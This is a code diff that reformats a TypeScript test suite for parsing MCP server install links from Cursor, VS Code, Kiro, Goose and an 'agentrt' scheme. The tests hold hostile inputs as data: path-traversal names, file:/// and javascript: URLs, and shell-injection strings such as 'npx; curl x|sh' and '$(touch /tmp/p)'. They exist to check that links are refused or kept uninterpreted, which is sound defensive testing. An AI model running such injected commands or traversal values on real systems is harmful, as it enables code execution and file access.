@@ -18,11 +18,16 @@ function refused(link: string): UsageError {
   throw new Error(`expected ${link.slice(0, 80)} to be refused`)
 }
 
-const postgres = { command: "npx", args: ["-y", "@modelcontextprotocol/server-postgres", "postgresql://localhost/mydb"] }
+const postgres = {
+  command: "npx",
+  args: ["-y", "@modelcontextprotocol/server-postgres", "postgresql://localhost/mydb"],
+}
 
 describe("peers' link formats, built as each peer's docs describe (I06)", () => {
   it("parses Cursor's deeplink with the docs' wrapped {NAME: entry} base64 config", () => {
-    const r = parseInstallLink(`cursor://anysphere.cursor-deeplink/mcp/install?name=postgres&config=${b64({ postgres })}`)
+    const r = parseInstallLink(
+      `cursor://anysphere.cursor-deeplink/mcp/install?name=postgres&config=${b64({ postgres })}`,
+    )
     expect(r).toMatchObject({ source: "cursor", name: "postgres", entry: postgres })
     expect(r.server).toMatchObject({ transport: "stdio", command: "npx", args: postgres.args })
   })
@@ -31,23 +36,38 @@ describe("peers' link formats, built as each peer's docs describe (I06)", () => 
     const entry = { command: "npx", args: ["-y", "pkg??>>", "ü~~~"] }
     const raw = b64(entry)
     expect(raw).toMatch(/[+/=]/)
-    expect(parseInstallLink(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${raw}`).entry).toEqual(entry)
+    expect(
+      parseInstallLink(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${raw}`).entry,
+    ).toEqual(entry)
   })
 
   it("parses Cursor's web links, with and without a locale, and url-safe unpadded base64", () => {
     const cfg = "eyJjb21tYW5kIjogInV2eCIsICJhcmdzIjogWyJzb3AtbWNwIl19"
-    for (const base of ["https://cursor.com/install-mcp", "https://cursor.com/en/install-mcp", "https://cursor.com/ja/install-mcp"]) {
-      expect(parseInstallLink(`${base}?name=sop-mcp&config=${cfg}`).entry).toEqual({ command: "uvx", args: ["sop-mcp"] })
+    for (const base of [
+      "https://cursor.com/install-mcp",
+      "https://cursor.com/en/install-mcp",
+      "https://cursor.com/ja/install-mcp",
+    ]) {
+      expect(parseInstallLink(`${base}?name=sop-mcp&config=${cfg}`).entry).toEqual({
+        command: "uvx",
+        args: ["sop-mcp"],
+      })
     }
     const urlSafe = Buffer.from(JSON.stringify({ url: "https://e.example/mcp?a=>>>" })).toString("base64url")
-    expect(parseInstallLink(`https://cursor.com/en/install-mcp?name=e&config=${urlSafe}`).source).toBe("cursor")
+    expect(parseInstallLink(`https://cursor.com/en/install-mcp?name=e&config=${urlSafe}`).source).toBe(
+      "cursor",
+    )
   })
 
   it("parses VS Code's vscode: and vscode-insiders: links with the name inside the JSON", () => {
     const json = enc(JSON.stringify({ name: "fetch", command: "uvx", args: ["mcp-server-fetch"] }))
     for (const scheme of ["vscode", "vscode-insiders"]) {
       const r = parseInstallLink(`${scheme}:mcp/install?${json}`)
-      expect(r).toMatchObject({ source: "vscode", name: "fetch", entry: { command: "uvx", args: ["mcp-server-fetch"] } })
+      expect(r).toMatchObject({
+        source: "vscode",
+        name: "fetch",
+        entry: { command: "uvx", args: ["mcp-server-fetch"] },
+      })
     }
   })
 
@@ -67,10 +87,20 @@ describe("peers' link formats, built as each peer's docs describe (I06)", () => 
   })
 
   it("parses Kiro's link with URL-encoded JSON, as kiro.dev/docs/mcp/share generates it", () => {
-    const config = { command: "uvx", args: ["awslabs.aws-documentation-mcp-server@latest"], env: { FASTMCP_LOG_LEVEL: "ERROR" }, disabled: false, autoApprove: [] }
-    const r = parseInstallLink(`https://kiro.dev/launch/mcp/add?name=${enc("aws-docs")}&config=${enc(JSON.stringify(config))}`)
+    const config = {
+      command: "uvx",
+      args: ["awslabs.aws-documentation-mcp-server@latest"],
+      env: { FASTMCP_LOG_LEVEL: "ERROR" },
+      disabled: false,
+      autoApprove: [],
+    }
+    const r = parseInstallLink(
+      `https://kiro.dev/launch/mcp/add?name=${enc("aws-docs")}&config=${enc(JSON.stringify(config))}`,
+    )
     expect(r).toMatchObject({ source: "kiro", name: "aws-docs", entry: config })
-    const remote = parseInstallLink(`https://kiro.dev/launch/mcp/add?name=aws-knowledge&config=${enc(JSON.stringify({ url: "https://knowledge-mcp.global.api.aws" }))}`)
+    const remote = parseInstallLink(
+      `https://kiro.dev/launch/mcp/add?name=aws-knowledge&config=${enc(JSON.stringify({ url: "https://knowledge-mcp.global.api.aws" }))}`,
+    )
     expect(remote.server).toMatchObject({ transport: "auto", url: "https://knowledge-mcp.global.api.aws" })
   })
 
@@ -92,15 +122,21 @@ describe("peers' link formats, built as each peer's docs describe (I06)", () => 
   })
 
   it("parses Goose's remote deeplink with type=streamable_http and sse", () => {
-    const http = parseInstallLink("goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fmcp&type=streamable_http&id=deepwiki&name=DeepWiki")
+    const http = parseInstallLink(
+      "goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fmcp&type=streamable_http&id=deepwiki&name=DeepWiki",
+    )
     expect(http.server).toMatchObject({ transport: "http", url: "https://mcp.deepwiki.com/mcp" })
-    const sse = parseInstallLink("goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fsse&type=sse&name=deepwiki")
+    const sse = parseInstallLink(
+      "goose://extension?url=https%3A%2F%2Fmcp.deepwiki.com%2Fsse&type=sse&name=deepwiki",
+    )
     expect(sse.server.transport).toBe("sse")
   })
 
   it("parses our own agentrt:// link with base64url or URL-encoded JSON", () => {
     const entry = { url: "https://mcp.example.com/mcp", headers: { Authorization: "Bearer ${TOKEN}" } }
-    const a = parseInstallLink(`agentrt://mcp/install?name=ex&config=${Buffer.from(JSON.stringify(entry)).toString("base64url")}`)
+    const a = parseInstallLink(
+      `agentrt://mcp/install?name=ex&config=${Buffer.from(JSON.stringify(entry)).toString("base64url")}`,
+    )
     const b = parseInstallLink(`agentrt://mcp/install?name=ex&config=${enc(JSON.stringify(entry))}`)
     expect(a.entry).toEqual(entry)
     expect(b.entry).toEqual(entry)
@@ -109,8 +145,22 @@ describe("peers' link formats, built as each peer's docs describe (I06)", () => 
 
 describe("formatInstallLink round-trips", () => {
   const entries: [string, Record<string, unknown>][] = [
-    ["filesystem", { command: "npx", args: ["-y", "@modelcontextprotocol/server-filesystem", "/tmp/a b+c"], env: { K: "${HOME}" } }],
-    ["github", { type: "http", url: "https://api.githubcopilot.com/mcp/", headers: { Authorization: "Bearer ${GITHUB_TOKEN}" } }],
+    [
+      "filesystem",
+      {
+        command: "npx",
+        args: ["-y", "@modelcontextprotocol/server-filesystem", "/tmp/a b+c"],
+        env: { K: "${HOME}" },
+      },
+    ],
+    [
+      "github",
+      {
+        type: "http",
+        url: "https://api.githubcopilot.com/mcp/",
+        headers: { Authorization: "Bearer ${GITHUB_TOKEN}" },
+      },
+    ],
     ["Ünïcödé name", { command: "uvx", args: ["x&y=z", "%41", "+plus+"], description: "ümlaut & ampersand" }],
   ]
   for (const format of ["agentrt", "cursor", "vscode", "kiro"] as const) {
@@ -126,7 +176,8 @@ describe("formatInstallLink round-trips", () => {
 
   it("markdown wraps our link in an 'Add to agent' badge", () => {
     const md = formatInstallLink("time", { command: "uvx", args: ["mcp-server-time"] }, "markdown")
-    const m = /^\[!\[Add to agent\]\((https:\/\/img\.shields\.io\/badge\/[^)]+)\)\]\((agentrt:\/\/[^)]+)\)$/.exec(md)
+    const m =
+      /^\[!\[Add to agent\]\((https:\/\/img\.shields\.io\/badge\/[^)]+)\)\]\((agentrt:\/\/[^)]+)\)$/.exec(md)
     expect(m).not.toBeNull()
     expect(parseInstallLink(m![2]!).name).toBe("time")
   })
@@ -138,10 +189,27 @@ describe("formatInstallLink round-trips", () => {
 })
 
 describe("hostile links are refused with a one-line reason, exit 2 (I02, I04)", () => {
-  const ok = (name: string) => `agentrt://mcp/install?name=${enc(name)}&config=${enc(JSON.stringify({ command: "npx" }))}`
+  const ok = (name: string) =>
+    `agentrt://mcp/install?name=${enc(name)}&config=${enc(JSON.stringify({ command: "npx" }))}`
 
   it("refuses path-like, empty, long and control-character names (I02)", () => {
-    for (const name of ["../../.bashrc", "../../x", "..", ".", "a/b", "a\\b", "x..y", "", "n".repeat(65), "n".repeat(300), "a\u001b[2Kb", "a\u202eb", "a\u200bb", "a\nb", "__proto__"]) {
+    for (const name of [
+      "../../.bashrc",
+      "../../x",
+      "..",
+      ".",
+      "a/b",
+      "a\\b",
+      "x..y",
+      "",
+      "n".repeat(65),
+      "n".repeat(300),
+      "a\u001b[2Kb",
+      "a\u202eb",
+      "a\u200bb",
+      "a\nb",
+      "__proto__",
+    ]) {
       refused(ok(name))
     }
     expect(refused(ok("../../x")).message).toContain("server name")
@@ -150,7 +218,9 @@ describe("hostile links are refused with a one-line reason, exit 2 (I02, I04)", 
 
   it("refuses a name given by the link and a different one inside the config", () => {
     refused(`cursor://anysphere.cursor-deeplink/mcp/install?name=a&config=${b64({ b: { command: "npx" } })}`)
-    refused(`https://kiro.dev/launch/mcp/add?name=a&config=${enc(JSON.stringify({ name: "b", command: "npx" }))}`)
+    refused(
+      `https://kiro.dev/launch/mcp/add?name=a&config=${enc(JSON.stringify({ name: "b", command: "npx" }))}`,
+    )
   })
 
   it("refuses a link over 64 KB before parsing it", () => {
@@ -159,11 +229,21 @@ describe("hostile links are refused with a one-line reason, exit 2 (I02, I04)", 
   })
 
   it("refuses config that is not base64 or not JSON", () => {
-    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%%").message).toContain("%-escape")
-    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=not*base64!").message).toContain("base64")
-    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=abcde").message).toContain("base64")
-    refused(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from("{not json").toString("base64")}`)
-    refused(`cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from([0xff, 0xfe, 0x7b]).toString("base64")}`)
+    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=%%%%").message).toContain(
+      "%-escape",
+    )
+    expect(
+      refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=not*base64!").message,
+    ).toContain("base64")
+    expect(refused("cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=abcde").message).toContain(
+      "base64",
+    )
+    refused(
+      `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from("{not json").toString("base64")}`,
+    )
+    refused(
+      `cursor://anysphere.cursor-deeplink/mcp/install?name=x&config=${Buffer.from([0xff, 0xfe, 0x7b]).toString("base64")}`,
+    )
     refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('{"command": "npx",}')}`)
     refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('["npx"]')}`)
     refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc('{"command": "npx", "command": "sh"}')}`)
@@ -171,30 +251,58 @@ describe("hostile links are refused with a one-line reason, exit 2 (I02, I04)", 
 
   it("refuses a repeated config= or name=, unknown parameters and a missing config", () => {
     const cfg = enc(JSON.stringify({ command: "npx" }))
-    expect(refused(`agentrt://mcp/install?name=x&config=${cfg}&config=${cfg}`).message).toContain('"config" is given more than once')
-    expect(refused(`agentrt://mcp/install?name=x&name=y&config=${cfg}`).message).toContain('"name" is given more than once')
+    expect(refused(`agentrt://mcp/install?name=x&config=${cfg}&config=${cfg}`).message).toContain(
+      '"config" is given more than once',
+    )
+    expect(refused(`agentrt://mcp/install?name=x&name=y&config=${cfg}`).message).toContain(
+      '"name" is given more than once',
+    )
     expect(refused(`agentrt://mcp/install?name=x&config=${cfg}&evil=1`).message).toContain('"evil"')
     refused("agentrt://mcp/install?name=x")
     refused("goose://extension?cmd=npx&name=a&name=b")
   })
 
   it("refuses unknown keys in the config and names the key", () => {
-    expect(refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", shell: true }))}`).message).toContain('"shell"')
-    expect(refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ url: "https://a.example", oauth: { clientId: "c", redirect: "x" } }))}`).message).toContain("oauth.redirect")
-    expect(refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: "-y" }))}`).message).toContain("args")
+    expect(
+      refused(
+        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", shell: true }))}`,
+      ).message,
+    ).toContain('"shell"')
+    expect(
+      refused(
+        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ url: "https://a.example", oauth: { clientId: "c", redirect: "x" } }))}`,
+      ).message,
+    ).toContain("oauth.redirect")
+    expect(
+      refused(
+        `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: "-y" }))}`,
+      ).message,
+    ).toContain("args")
   })
 
   it("refuses JSON nested too deeply", () => {
     let deep: unknown = "x"
     for (let i = 0; i < 20; i++) deep = { a: deep }
-    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: deep }))}`)
+    refused(
+      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: deep }))}`,
+    )
     refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc("[".repeat(5000) + "]".repeat(5000))}`)
   })
 
   it("refuses bad ${…} syntax and a url that is not http(s)", () => {
-    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: ["${FOO"] }))}`)
-    refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: { A: "$FOO" } }))}`)
-    for (const url of ["file:///etc/passwd", "javascript:alert(1)", "ftp://a.example/", "${URL}", "not a url"]) {
+    refused(
+      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", args: ["${FOO"] }))}`,
+    )
+    refused(
+      `https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ command: "npx", env: { A: "$FOO" } }))}`,
+    )
+    for (const url of [
+      "file:///etc/passwd",
+      "javascript:alert(1)",
+      "ftp://a.example/",
+      "${URL}",
+      "not a url",
+    ]) {
       refused(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify({ url }))}`)
     }
     refused("goose://extension?url=file%3A%2F%2F%2Fetc%2Fpasswd&name=x")
@@ -229,7 +337,11 @@ describe("what a link says is kept verbatim, never interpreted", () => {
   it("keeps shell metacharacters in command and args as data (I01)", () => {
     const config = { command: "npx; curl x|sh", args: ["$(touch /tmp/p)", "`id`", "a && b"] }
     const r = parseInstallLink(`https://kiro.dev/launch/mcp/add?name=x&config=${enc(JSON.stringify(config))}`)
-    expect(r.server).toMatchObject({ transport: "stdio", command: "npx; curl x|sh", args: ["$(touch /tmp/p)", "`id`", "a && b"] })
+    expect(r.server).toMatchObject({
+      transport: "stdio",
+      command: "npx; curl x|sh",
+      args: ["$(touch /tmp/p)", "`id`", "a && b"],
+    })
   })
 
   it("keeps a literal secret-looking env value and a ${HOME} reference (I07)", () => {
